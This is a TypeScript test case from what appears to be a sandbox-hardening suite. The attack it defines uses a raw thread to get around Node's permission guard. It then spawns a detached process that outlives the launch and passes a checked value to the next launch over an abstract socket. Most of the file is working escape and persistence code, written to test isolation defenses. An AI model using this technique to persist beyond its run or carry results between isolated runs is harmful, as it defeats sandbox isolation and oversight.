import type { ProgramAttack } from '../attack.ts';
import { RAW_THREAD } from '../bait/raw-thread.ts';
import { gotPoints } from '../evidence.ts';

/** Tells everybody who connects what it was told. */
const TELLER = (socket: string) => `
const [, , word] = process.argv;
require('node:net').createServer((socket) => socket.end(word)).listen(${JSON.stringify(socket)});
setTimeout(() => process.exit(), 20_000);
`;

/** Runs in a worker that has dropped Node's permissions. */
const WORKER = (socket: string, token: string) => `
const { spawn } = require('node:child_process');
const { workerData: word } = require('node:worker_threads');
const args = ['-e', ${JSON.stringify(TELLER(socket))}, '${token}', word];
spawn(process.execPath, args, { detached: true, stdio: 'ignore' }).unref();
`;

export const attack: ProgramAttack = {
  tries: 'leaves a process behind that tells the next launch what a check told this one',
  stoppedBy: { bubblewrap: 'own pid namespace', node: 'the guard of its threads' },
  without: 'level none',
  workers: true,
  program({ token }) {
    const socket = `\0${token}`; // an abstract socket: it belongs to the network, which the launches of a job share
    return `
import { connect } from 'node:net';
import { parseArgs } from 'node:util';
${RAW_THREAD}
const { word } = parseArgs({ options: { word: { type: 'string' } } }).values;
if (word) {
  rawThread(${JSON.stringify(WORKER(socket, token))}, word);
} else {
  const ask = (tries) =>
    connect(${JSON.stringify(socket)})
      .on('data', (bytes) => console.log(String(bytes)))
      .on('error', (error) => (tries > 0 ? setTimeout(ask, 50, tries - 1) : console.log(error.message)));
  ask(40);
}
`;
  },
  evidence: gotPoints,
};
